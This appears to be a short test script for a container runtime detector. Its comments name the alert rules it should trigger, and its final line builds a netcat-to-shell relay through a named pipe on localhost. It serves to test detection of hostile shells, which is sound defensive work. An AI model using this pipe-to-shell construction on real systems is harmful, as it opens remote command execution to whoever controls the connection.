# in: container
# fires: execution-pipe-shell execution-relayed-shell
# The pipe has its name where programs have theirs, and the shell is told nothing.
sleep 2 | nc -l -p 4451 &
sleep 0.3
mkdir -p /run/service
mkfifo /run/service/control
nc -w 2 127.0.0.1 4451 < /run/service/control | sh > /run/service/control 2>&1
